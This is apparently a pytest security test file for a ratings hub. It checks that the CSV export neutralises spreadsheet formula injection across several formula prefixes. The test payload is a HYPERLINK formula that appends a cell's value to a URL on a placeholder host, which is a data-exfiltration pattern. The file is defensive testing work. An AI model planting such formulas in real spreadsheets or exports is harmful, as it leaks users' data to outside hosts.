"""Issue 10: each finding of the hostile review, attacked again. Every test here performs the attack and
fails without its defence (docs/security.md says what each defence holds against)."""

from __future__ import annotations

import csv
import io

import pytest
import requests
from test_hub_support import ADMIN_TOKEN, post_events, rating_payload, register, thread_hub

from core.spreadsheet import FORMULA_PREFIXES, safe_cell
from core.store import EventLog

FORMULA = 'HYPERLINK("http://x/?"&R2,"查看")'


# --- 1. CSV formula injection ---------------------------------------------------------------------


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_a_cell_starting_like_a_formula_is_written_as_text(prefix):
    assert safe_cell(prefix + FORMULA) == "'" + prefix + FORMULA
    assert safe_cell(FORMULA) == FORMULA and safe_cell(5) == 5 and safe_cell(None) is None


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_hub_ratings_csv_neutralises_every_formula_prefix(tmp_path):
    with thread_hub(tmp_path / "hub") as hub:
        secret = register(hub.store)
        with EventLog(tmp_path / "kiosk.db") as log:
            for i, prefix in enumerate(FORMULA_PREFIXES, 1):
                log.append("rating", rating_payload(i, case_no=prefix + FORMULA, satisfaction=1))
            assert post_events(hub.url, secret, log.log_id, list(log.events_after(0))).status_code == 200
        r = requests.get(
            f"{hub.url}/api/v1/ratings?format=csv",
            headers={"Authorization": f"Bearer {ADMIN_TOKEN}"},
            timeout=10,
        )
    cells = [row["projectNo"] for row in _csv_rows(r.content.decode("utf-8"))]
    assert cells == ["'" + p + FORMULA for p in FORMULA_PREFIXES]
    # No cell of the export starts a formula, whatever its column.
    for row in _csv_rows(r.content.decode("utf-8")):
        assert not any(v.startswith(FORMULA_PREFIXES) for v in row.values() if v)
